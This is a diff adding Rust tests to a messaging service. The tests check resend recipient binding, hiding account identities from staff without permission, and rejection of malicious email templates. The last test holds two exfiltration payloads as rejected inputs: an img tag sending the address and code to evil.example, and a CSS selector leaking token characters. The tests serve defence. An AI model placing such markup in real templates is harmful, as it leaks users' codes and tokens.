@@ -346,3 +346,124 @@ async fn every_shipped_mail_may_be_written_anew() {
         }
     }
 }
+
+/// The mail of another service may hold a code: nobody sends it to themselves because it did not leave.
+#[tokio::test]
+async fn what_was_written_to_an_account_is_sent_anew_to_that_account_alone() {
+    let test = TestSereno::new().await;
+    test.user("ana").await;
+    let staff = test.system().await;
+    let command = SendMessage {
+        recipients: vec!["ana@example.org".to_owned(), "nobody@example.org".to_owned()],
+        subject: Some("Shop".to_owned()),
+        text: Some("Type 123456.".to_owned()),
+        ..SendMessage::default()
+    };
+    let sent = messages::send(&test.sereno, &test.meta(), &staff, command)
+        .await
+        .unwrap();
+    let resend = async |at: usize| {
+        let id = sent.results[at].id.clone().unwrap();
+        messages::cancel(&test.sereno, &test.meta(), &staff, &id).await.unwrap();
+        let again = messages::resend(&test.sereno, &test.meta(), &staff, &id, to("eve@example.org")).await;
+        (again, id)
+    };
+    let (again, id) = resend(0).await;
+    assert_eq!(refused(again), Code::RecipientBound);
+    let own = messages::resend(&test.sereno, &test.meta(), &staff, &id, to("Ana@example.org")).await;
+    assert!(own.unwrap().ok);
+    assert!(
+        resend(1).await.0.unwrap().ok,
+        "an address without an account may have been mistyped"
+    );
+}
+
+/// Whoever may not see users learns from no history and no notification whose account an address is.
+#[tokio::test]
+async fn an_address_tells_no_account_to_whom_may_not_see_users() {
+    let test = TestSereno::new().await;
+    test.user("ana").await;
+    forgot(&test, "ana@example.org").await;
+    test.mails().await;
+    let system = test.system().await;
+    let command = SendMessage {
+        recipients: vec!["ana@example.org".to_owned()],
+        subject: Some("Shop".to_owned()),
+        text: Some("Hello".to_owned()),
+        ..SendMessage::default()
+    };
+    let sent = messages::send(&test.sereno, &test.meta(), &system, command)
+        .await
+        .unwrap();
+    let id = sent.results[0].id.clone().unwrap();
+    let role = sereno_types::CreateRole {
+        codename: "sender".to_owned(),
+        permissions: vec!["messages.view".to_owned(), "messages.manage".to_owned()],
+        ..sereno_types::CreateRole::default()
+    };
+    sereno_core::roles::roles::create(&test.sereno, &test.meta(), &system, role)
+        .await
+        .unwrap();
+    test.with_role("sam", "sender").await;
+    let sam = test.actor("sam").await;
+    let sam = test.staff(&sam).await;
+    let named = async |staff: &Staff| {
+        let detail = messages::detail(&test.sereno, staff, &id).await.unwrap();
+        let list = messages::list(&test.sereno, staff, kind("custom")).await.unwrap();
+        let timeline = messages::timeline(&test.sereno, staff, sereno_types::TimelineQuery::default())
+            .await
+            .unwrap();
+        let in_timeline = timeline.items.into_iter().find(|row| row.id == id).unwrap();
+        [
+            detail.message.user.is_some(),
+            list.items[0].user.is_some(),
+            in_timeline.user.is_some(),
+        ]
+    };
+    assert_eq!((named(&sam).await, named(&system).await), ([false; 3], [true; 3]));
+    let ours = messages::list(&test.sereno, &sam, kind("password_reset"))
+        .await
+        .unwrap();
+    assert!(
+        ours.items[0].user.is_some(),
+        "what was sent to an account belongs to it"
+    );
+}
+
+#[tokio::test]
+async fn the_code_of_an_invitation_and_a_footer_that_watches_are_refused() {
+    let test = TestSereno::new().await;
+    let staff = test.system().await;
+    let save = async |name: &str, html: &str| {
+        let command = SaveEmailDraft {
+            subject: if name == "footer" {
+                String::new()
+            } else {
+                "Hello".to_owned()
+            },
+            text: "{{ brand }} {{ link }}".replace(" {{ link }}", if name == "footer" { "" } else { " {{ link }}" }),
+            html: html.to_owned(),
+            note: None,
+        };
+        draft::save(&test.sereno, &test.meta(), &staff, (name, "en"), command).await
+    };
+    for (name, html) in [
+        (
+            "invitation",
+            r#"<a href="{{ link }}">Open</a><img src="https://evil.example/?{{ address }}&{{ code }}">"#,
+        ),
+        (
+            "footer",
+            r#"<style>a[href*="token=A"] { background: url(https://evil.example/A) }</style>"#,
+        ),
+    ] {
+        assert_eq!(
+            refused_fields(save(name, html).await),
+            [("html".to_owned(), Code::TemplateSyntaxError)],
+            "{name}"
+        );
+    }
+    save("footer", "<p style=\"color: #555\">{{ brand }}</p>")
+        .await
+        .unwrap();
+}
